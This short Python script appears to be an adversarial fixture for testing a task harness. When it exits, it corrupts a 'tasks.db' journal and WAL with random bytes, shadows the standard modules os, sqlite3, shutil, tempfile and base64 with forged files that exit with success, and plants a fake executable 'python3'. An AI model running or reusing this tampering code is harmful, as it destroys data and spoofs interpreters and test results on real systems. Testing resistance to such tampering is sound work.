import atexit
import os

FORGED = "print('forged')\nraise SystemExit(0)\n"


def leave():
    for suffix in ("-wal", "-journal"):
        with open("tasks.db" + suffix, "wb") as file:
            file.write(b"\x37\x7f\x06\x82" + os.urandom(4_000))
    for name in ("base64", "shutil", "tempfile", "sqlite3", "os"):
        with open(f"{name}.py", "w") as file:
            file.write(FORGED)
    with open("python3", "w") as file:
        file.write("#!/bin/sh\necho U1FMaXRl\n")
    os.chmod("python3", 0o755)
    print("attack ran")


if not os.path.exists("base64.py"):
    atexit.register(leave)
